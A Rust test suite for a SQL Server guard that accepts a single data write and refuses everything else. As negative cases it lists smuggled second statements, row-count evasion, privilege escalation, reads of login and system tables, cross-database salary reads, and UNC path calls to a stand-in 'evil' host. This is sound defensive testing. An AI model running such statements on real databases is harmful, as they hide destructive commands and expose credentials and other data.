//! What passes as one write, and what does not.

use serde::Deserialize;

use super::*;

/// What Microsoft's parser reads as one write, too: `tests/integration/outside/oracle`.
const WRITES: &str = include_str!(concat!(
    env!("CARGO_MANIFEST_DIR"),
    "/tests/data/writes.json"
));

#[derive(Deserialize)]
struct Case {
    id: String,
    sql: String,
}

#[test]
fn one_write_of_any_kind_passes() {
    let cases: Vec<Case> = serde_json::from_str(WRITES).unwrap();
    assert!(cases.len() > 30);
    for Case { id, sql } in cases {
        assert_eq!(check(&sql, &["p1", "p2"]), Ok(()), "{id}: {sql}");
    }
}

#[test]
fn a_second_statement_or_a_transaction_of_its_own_is_refused() {
    for sql in [
        "DELETE FROM a DELETE FROM b",
        "DELETE FROM a; DELETE FROM b",
        "UPDATE a SET x = 1 COMMIT",
        "DELETE FROM a EXEC('DROP TABLE b')",
        "INSERT INTO t EXEC dbo.p",
        "SELECT 1",
        "WITH c AS (SELECT 1 AS a) SELECT a FROM c",
        "WITH c AS (SELECT 1 AS a) SELECT a INTO dbo.x FROM c",
        "TRUNCATE TABLE dbo.t",
        "GRANT CONTROL TO public",
        "DELETE FROM t WHERE a = @unbound",
        "WITH c AS (SELECT 1 a) UPDATE t SET a = 1 DELETE FROM u",
        "UPDATE STATISTICS dbo.t",
        "UPDATE dbo.t SET x = CASE WHEN 1 = 1 THEN 2 END CONVERSATION @a",
        "UPDATE dbo.t SET x = 1 FROM dbo.t END CONVERSATION [@a]",
        "CREATE SEQUENCE dbo.s label:",
        "DELETE FROM dbo.a USE master",
        "DELETE FROM dbo.a DISABLE TRIGGER tr ON dbo.t",
        "",
    ] {
        assert!(check(sql, &["a"]).is_err(), "{sql}");
    }
}

/// Each would change rows that the count at the end does not tell of.
#[test]
fn nothing_hides_rows_from_the_limit() {
    for sql in [
        "UPDATE dbo.a SET x = x WHERE 1 = 0 SET NOCOUNT ON DELETE FROM dbo.Orders",
        "UPDATE o SET x = x FROM dbo.a AS AFTER DELETE FROM dbo.Orders",
        "UPDATE o SET x = x FROM dbo.a AS o SET NOCOUNT ON TRUNCATE TABLE dbo.Orders",
        "UPDATE dbo.a SET x = 1 SET NOCOUNT ON",
        "UPDATE dbo.a SET x = 1 SET ROWCOUNT 5",
        "DELETE FROM dbo.Orders SET NOCOUNT ON",
        "INSERT INTO dbo.a VALUES (1) SET NOCOUNT ON",
        "DELETE FROM dbo.Orders SELECT 1",
        "DELETE FROM dbo.Orders SELECT TOP (0) 1",
        "INSERT INTO dbo.a VALUES (1) SELECT 1",
        "INSERT INTO dbo.a DEFAULT VALUES SELECT 1",
        "INSERT INTO dbo.a SELECT 1 SELECT 2",
        "INSERT INTO dbo.a VALUES (1) (SELECT 2)",
        "INSERT INTO dbo.a DEFAULT VALUES (SELECT a)",
        "DELETE t FROM t INNER JOIN u ON u.id = t.id (SELECT 2)",
        "UPDATE dbo.t SET a = 1 ((SELECT 2))",
        "INSERT dbo.t SELECT a.* (SELECT 2)",
        "INSERT dbo.t SELECT * (SELECT 2)",
        "UPDATE dbo.t SET a = NULL (SELECT 2)",
        "DELETE FROM dbo.t FETCH NEXT FROM c",
        "DELETE FROM dbo.t WHERE a = rows FETCH NEXT FROM c",
        "DROP VIEW dbo.v SELECT a FROM dbo.Orders",
        "DROP VIEW dbo.v IF EXISTS (SELECT 1 FROM dbo.t) SELECT a FROM dbo.Orders",
        "DELETE FROM dbo.t {call dbo.p}",
        "DELETE FROM dbo.a USE hint",
        "DROP TABLE dbo.y ADD SIGNATURE TO p BY CERTIFICATE c",
        "INSERT TOP (5) . . t (a) SELECT 1",
        "ALTER TABLE dbo.y ADD a int ADD SIGNATURE TO p BY CERTIFICATE c",
        "ALTER TABLE dbo.y ADD COUNTER SIGNATURE TO p BY CERTIFICATE c",
        "CREATE VIEW dbo.v AS SELECT 1 AS a (SELECT 2)",
        "INSERT INTO dbo.a (SELECT 1) SELECT 2",
        "INSERT INTO dbo.a (id) SELECT d.id FROM (DELETE FROM dbo.Orders OUTPUT deleted.id) AS d WHERE d.id = 1",
        "INSERT INTO dbo.a (id) SELECT d.id FROM (MERGE dbo.o AS t USING dbo.s AS s ON 1 = 1 WHEN MATCHED THEN DELETE OUTPUT deleted.id) AS d",
        "WITH c AS (DELETE FROM dbo.o OUTPUT deleted.id) INSERT INTO dbo.a SELECT id FROM c",
        "MERGE dbo.t AS t USING dbo.s AS s ON 1 = 1 WHEN MATCHED THEN UPDATE SET a = 1 SET NOCOUNT ON",
        "MERGE dbo.t AS t USING dbo.s AS s ON 1 = 1 WHEN MATCHED THEN DELETE DELETE FROM dbo.u",
        "CREATE TABLE dbo.x (a int) DELETE FROM dbo.Orders",
        "CREATE TABLE dbo.x (a int) UPDATE dbo.t SET a = 1",
        "CREATE TABLE dbo.x (a int) SELECT 1",
        "ALTER TABLE dbo.x ADD b int DROP TABLE dbo.y",
        "ALTER TABLE dbo.x NOCHECK CONSTRAINT ALL DROP COLUMN MASTER KEY k",
        "DROP TABLE dbo.x SET NOCOUNT ON",
        "CREATE INDEX i ON DELETE FROM dbo.t",
        "CREATE VIEW dbo.v AS SELECT 1 AS a SELECT 2",
        "CREATE VIEW dbo.v AS DELETE FROM dbo.t",
        "UPDATE dbo.Orders SET Changed = CURRENT_TIMESTAMP (SELECT 1)",
        "UPDATE dbo.Orders SET Who = SYSTEM_USER ((SELECT 1))",
        "UPDATE dbo.Orders SET Changed = {d '2024-01-01'} (SELECT 1)",
        "UPDATE dbo.Orders SET a = b FROM dbo.t AS x ((SELECT 1))",
        "INSERT INTO dbo.a (x) SELECT x FROM dbo.b ORDER BY x DESC (SELECT 1)",
        "INSERT INTO dbo.a (x) SELECT x FROM dbo.b WHERE x IS NULL (SELECT 1)",
        "INSERT INTO dbo.a (x) SELECT 1 apply (SELECT 1)",
        "INSERT INTO dbo.a (x) SELECT 1 AS (SELECT 1)",
        "INSERT TOP (5) t ((SELECT 1)) SELECT 2",
        "INSERT TOP (5) dbo.t (SELECT 1) (SELECT 2)",
        "UPDATE dbo.t SET a = 1 FROM dbo.t AS using (SELECT 1)",
        "MERGE dbo.t AS t USING dbo.s AS s ON 1 = 1 WHEN MATCHED THEN DELETE OUTPUT deleted.id AS using (SELECT 1);",
        "MERGE dbo.t AS t USING dbo.s AS using (SELECT 1) ON 1 = 1 WHEN MATCHED THEN DELETE;",
        "MERGE dbo.t AS t USING (SELECT 1 AS id) (SELECT 2) AS s ON 1 = 1 WHEN MATCHED THEN DELETE;",
    ] {
        assert!(check(sql, &[]).is_err(), "{sql}");
    }
}

/// What a reading statement may not call or read is not copied either.
#[test]
fn a_copy_shows_nothing_that_a_result_would_not() {
    for (source, code) in [
        (
            "full_filesystem_path FROM sys.dm_os_enumerate_filesystem('\\\\evil\\s\\', '*')",
            "function",
        ),
        ("query_sql_text FROM sys.query_store_query_text", "table"),
        ("name FROM [SYS].[sql_logins]", "table"),
        ("name FROM s\u{fd}s.sql_logins", "table"),
        ("name FROM sys.sql_logins, (SELECT 1 AS a) AS sys", "table"),
        (
            "ROUTINE_DEFINITION FROM INFORMATION_SCHEMA.ROUTINES",
            "table",
        ),
        ("name FROM sysusers", "table"),
        ("name FROM dbo.t, dbo.sysprocesses", "table"),
        (
            "path FROM sys.fn_get_audit_file('\\\\evil\\s\\*', NULL, NULL)",
            "function",
        ),
        ("x FROM fn_dblog(NULL, NULL)", "function"),
        ("x FROM fn_dblog(NULL, NULL) AS l", "function"),
        ("x FROM [fn_dblog](NULL, NULL) AS l (x)", "function"),
        ("x FROM ::fn_dblog(NULL, NULL)", "function"),
        ("x FROM dbo.t, fn_dblog(NULL, NULL) AS l", "function"),
        (
            "x FROM (fn_dblog(NULL, NULL) AS l CROSS JOIN dbo.t)",
            "function",
        ),
        (
            "x FROM dbo.t CROSS APPLY fn_dblog(NULL, NULL) AS l",
            "function",
        ),
        ("TOP (1) x FROM fn_dblog(NULL, NULL)", "function"),
        ("TOP (1) OBJECT_DEFINITION(5)", "function"),
        ("SERVERPROPERTY('MachineName')", "function"),
        (
            "CASE WHEN LOGINPROPERTY('sa', 'IsLocked') = 1 THEN 1 END",
            "function",
        ),
        (
            "a FROM dbo.t JOIN dbo.u ON SESSION_CONTEXT(N'a') = t.a",
            "function",
        ),
        ("@@SERVERNAME", "function"),
        ("SUSER_NAME(value) FROM GENERATE_SERIES(1, 500)", "function"),
        ("DB_NAME(value) FROM GENERATE_SERIES(1, 500)", "function"),
    ] {
        for sql in [
            format!("INSERT INTO dbo.Notes (t) SELECT {source}"),
            format!("CREATE VIEW dbo.v AS SELECT {source}"),
        ] {
            let denial = check(&sql, &[]).expect_err(&sql);
            assert_eq!(denial.code, format!("{code}-not-allowed"), "{sql}");
        }
    }
    for sql in [
        "MERGE dbo.t AS t USING fn_dblog(NULL, NULL) AS s ON 1 = 1 WHEN MATCHED THEN DELETE;",
        "UPDATE dbo.t SET a = @@SERVERNAME",
        "UPDATE dbo.t SET a = 1 OUTPUT OBJECT_DEFINITION(5) INTO dbo.s (a)",
        "DELETE FROM dbo.t OUTPUT SUSER_NAME(260) INTO dbo.s (a)",
        "INSERT INTO dbo.t (a) OUTPUT HOST_NAME() INTO dbo.s (a) VALUES (1)",
        "UPDATE dbo.t SET a = APP_NAME() + HOST_NAME()",
        "CREATE TABLE dbo.t (a AS SERVERPROPERTY('MachineName'))",
        "ALTER TABLE dbo.t ADD a nvarchar(50) DEFAULT (SESSION_CONTEXT(N'a'))",
        "CREATE SYNONYM dbo.s FOR sys.sql_logins",
        "CREATE SYNONYM dbo.s FOR sysusers",
    ] {
        assert!(check(sql, &[]).is_err(), "{sql}");
    }
}

#[test]
fn rights_people_code_and_the_server_are_not_defined_here() {
    for sql in [
        "ALTER ROLE db_owner ADD MEMBER x",
        "CREATE USER x WITHOUT LOGIN",
        "CREATE LOGIN x WITH PASSWORD = 'x'",
        "ALTER LOGIN x ENABLE",
        "ALTER AUTHORIZATION ON SCHEMA::dbo TO x",
        "CREATE SCHEMA s AUTHORIZATION x",
        "DROP SECURITY POLICY dbo.p",
        "ALTER SECURITY POLICY dbo.p WITH (STATE = OFF)",
        "DROP DATABASE x",
        "ALTER DATABASE CURRENT SET READ_ONLY",
        "CREATE XML SCHEMA COLLECTION c AS ''",
        "CREATE TRIGGER tr ON dbo.t AFTER INSERT AS SELECT 1",
        "CREATE PROCEDURE dbo.p AS SELECT 1",
        "CREATE OR ALTER FUNCTION dbo.f () RETURNS int AS SELECT 1",
        "CREATE ASSEMBLY a FROM 'x'",
        "CREATE EXTERNAL TABLE dbo.t (a int)",
        "CREATE",
        "DROP",
    ] {
        assert!(check(sql, &[]).is_err(), "{sql}");
    }
}

#[test]
fn names_are_of_this_database() {
    for sql in [
        "INSERT INTO dbo.Notes (t) SELECT name FROM master.sys.sql_logins",
        "INSERT INTO dbo.Notes (t) SELECT Pay FROM otherdb.dbo.Salaries",
        "INSERT INTO dbo.Notes (t) SELECT Pay FROM otherdb..Salaries",
        "INSERT INTO dbo.Notes (t) SELECT a FROM dbo.t, otherdb.dbo.Salaries",
        "INSERT INTO dbo.Notes (t) SELECT otherdb.dbo.f(1)",
        "INSERT INTO dbo.Notes (t) SELECT otherdb.dbo.value('a', 'b')",
        "DELETE FROM SRV.db.dbo.t",
        "INSERT INTO dbo.Notes (t) SELECT s.name FROM master.sys.databases AS s, (SELECT 1 AS sys) AS master WHERE master.sys = 1",
        "DELETE FROM otherdb.dbo.t FROM (SELECT 1 AS dbo) AS otherdb WHERE otherdb.dbo = 1",
        "DELETE FROM SRV...t",
        "DELETE FROM srv.db..t",
        "UPDATE [other].[dbo].[t] SET a = 1",
        "MERGE dbo.t AS t USING other.dbo.s AS s ON 1 = 1 WHEN MATCHED THEN DELETE;",
        "CREATE SYNONYM dbo.s FOR other.dbo.t",
        "CREATE VIEW dbo.v AS SELECT a FROM other.dbo.t",
        "DROP TABLE other.dbo.t",
    ] {
        let denial = check(sql, &[]).unwrap_err();
        assert_eq!(denial.code, "table-not-allowed", "{sql}");
    }
}
